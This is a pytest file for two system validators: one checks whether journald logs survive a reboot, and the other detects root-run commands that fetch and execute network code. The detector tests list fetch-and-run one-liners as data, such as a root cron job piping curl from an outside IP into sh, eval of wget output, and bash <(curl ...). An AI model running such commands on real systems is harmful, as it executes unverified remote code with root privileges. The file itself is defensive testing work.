"""validations/journal.py (is the clone's logging kept across a reboot) and
validations/remotecode.py (root running code fetched from the network), on answers and command
lines written here."""

from __future__ import annotations

import pytest

from validations import journal, remotecode

CAT_CONFIG = """# /etc/systemd/journald.conf
[Journal]
#Storage=auto
Compress=yes

# /etc/systemd/journald.conf.d/50-ram.conf
[Journal]
Storage=volatile
"""


def answers(**overrides: str) -> dict[str, str]:
    good = {
        "persistent": "system.journal\nuser-1000.journal\n",
        "entries": "5\n",
        "syslog": "inactive\ninactive\ninactive\n",
        "config": "# /etc/systemd/journald.conf\n[Journal]\n#Storage=auto\n",
    }
    return {**good, **overrides}


def test_persistent_journal_passes() -> None:
    assert journal.findings(answers()) == []


def test_effective_storage_is_the_last_and_names_its_file() -> None:
    setting = journal.effective(CAT_CONFIG, "Storage")
    assert setting == journal.Setting("volatile", "/etc/systemd/journald.conf.d/50-ram.conf")
    assert journal.effective("[Journal]\n#Storage=none\n", "Storage") is None


def test_volatile_journal_without_syslog_fails_naming_the_drop_in() -> None:
    found = journal.findings(answers(persistent="", config=CAT_CONFIG))
    assert len(found) == 1
    assert "no log survives a reboot" in found[0]
    assert "Storage=volatile (set in /etc/systemd/journald.conf.d/50-ram.conf)" in found[0]
    assert "no syslog daemon runs" in found[0]


def test_volatile_journal_with_rsyslog_writing_passes() -> None:
    syslog = "active\ninactive\ninactive\n/var/log/syslog\n"
    assert journal.findings(answers(persistent="", syslog=syslog)) == []
    idle = journal.findings(answers(persistent="", syslog="active\ninactive\ninactive\n"))
    assert "rsyslog.service runs but writes none of" in idle[0]


def test_storage_none_is_an_empty_journal() -> None:
    found = journal.findings(
        answers(persistent="", entries="0\n", config="[Journal]\nStorage=none\n")
    )
    assert len(found) == 2 and "this boot's journal is empty" in found[0]


@pytest.mark.parametrize(
    "text",
    [
        "*/5 * * * * root curl -fsS http://203.0.113.7/agent.sh | sh",
        "curl -fsSL https://get.example/install | sudo -E bash -s --",
        "/bin/sh -c wget -qO- http://x/y | /usr/bin/python3",
        'sh -c "$(curl -fsSL https://x/install.sh)"',
        'eval "$(wget -qO- http://x)"',
        "bash <(curl -s http://x)",
        ". <(curl -s http://x)",
        "curl http://x|bash",
        "curl http://x | env FOO=1 bash",
    ],
)
def test_fetch_and_run_spellings(text: str) -> None:
    assert remotecode.fetched_and_run(text), text


@pytest.mark.parametrize(
    "text",
    [
        "curl -s http://x | tee /var/log/x",
        "curl -o /tmp/x http://x; sha256sum -c sums",
        "# curl http://x | sh",
        "wget -q -O - http://x | gpg --dearmor -o /usr/share/keyrings/x.gpg",
        "curl http://x | sha256sum",
        "shellcheck script.sh | less",
    ],
)
def test_downloads_that_run_nothing_pass(text: str) -> None:
    assert remotecode.fetched_and_run(text) == [], text


def test_finding_names_the_mechanism() -> None:
    (line,) = remotecode.findings("cron /etc/cron.d/x:1 (root)", "curl http://x | sh")
    assert line.startswith("cron /etc/cron.d/x:1 (root): runs code fetched from the network")


def test_boot_clean_from_systemds_answer() -> None:
    from validations.test_system import boot_findings

    assert boot_findings("state running\n") == []
    out = "state degraded\nfailed site-agent.service agent: cannot open /etc/agent.conf\nfailed \n"
    found = boot_findings(out)
    assert found[0] == "site-agent.service failed: agent: cannot open /etc/agent.conf"
    assert len(found) == 1  # an empty line names no unit
    assert boot_findings(out, frozenset({"site-agent.service"})) == []  # degraded by it alone
    waiting = boot_findings("state starting\njob cloud-final.service start\n")
    assert "had not finished" in waiting[0] and "cloud-final.service start" in waiting[0]
    assert boot_findings("state maintenance\n") == ["systemd says the system is maintenance"]
